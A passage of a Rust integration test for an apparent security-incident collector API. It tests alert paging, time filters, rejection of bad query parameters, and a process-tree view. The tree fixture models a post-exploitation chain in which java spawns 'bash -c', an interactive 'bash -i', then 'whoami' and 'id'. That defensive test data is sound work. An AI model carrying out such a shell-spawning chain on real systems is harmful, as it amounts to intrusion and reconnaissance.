            match p["next_cursor"].as_str() {
                Some(c) => cursor = Some(c.to_string()),
                None => break,
            }
        }
        assert_eq!(seen.len(), N as usize, "{order}");
        assert_eq!(seen[0], alerts[expect_first].id, "{order}");
        let unique: BTreeSet<&String> = seen.iter().collect();
        assert_eq!(unique.len(), N as usize, "{order}: an alert on two pages");
    }
    // A time range: alerts 100..150 (inclusive since, exclusive until).
    let (_, p) = collector
        .get(&format!(
            "/api/v1/incidents/{incident}/alerts?order=oldest&since_ms={}&until_ms={}&limit=20",
            t0 + 100_000,
            t0 + 150_000
        ))
        .await
        .unwrap();
    assert_eq!(p["total"], 50);
    assert_eq!(p["alerts"][0]["alert"]["id"], alerts[100].id);
    assert_eq!(p["totals"]["alerts"], N);
    let folded = collector
        .get(&format!("/api/v1/incidents/{incident}/alerts?order=oldest&limit=10"))
        .await
        .unwrap()
        .1;
    assert_eq!(folded["alerts"][7]["alert"]["count"], 40);
    for bad in ["order=sideways", "cursor=nope", "limit=0", "limit=5000", "colour=red"] {
        let (status, b) = collector
            .get(&format!("/api/v1/incidents/{incident}/alerts?{bad}"))
            .await
            .unwrap();
        assert_eq!(status, 400, "{bad}: {b}");
    }

    // The process tree: one tree, quiet ancestors folded, alerted processes marked.
    let (status, t) = collector
        .get(&format!("/api/v1/incidents/{incident}/process_tree"))
        .await
        .unwrap();
    assert_eq!(status, 200, "{t}");
    assert_eq!(t["alerted_processes"], 3);
    assert_eq!(t["trees"].as_array().unwrap().len(), 1, "{t}");
    let java = &t["trees"][0];
    assert_eq!(java["exe"], "java");
    let bash_c = &java["children"][0];
    assert_eq!(
        (bash_c["exe"].as_str(), bash_c["folded"]["count"].as_u64()),
        (Some("bash -c"), Some(1)),
        "{t}"
    );
    let bash_i = &bash_c["children"][0];
    assert_eq!(
        (bash_i["exe"].as_str(), bash_i["alert_count"].as_i64()),
        (Some("bash -i"), Some(1))
    );
    let leaves: Vec<&str> = bash_i["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["exe"].as_str().unwrap())
        .collect();
    assert_eq!(leaves, ["whoami", "id"]);
    assert_eq!(bash_i["children"][0]["alerts"][0]["id"], alerts[10].id);
}
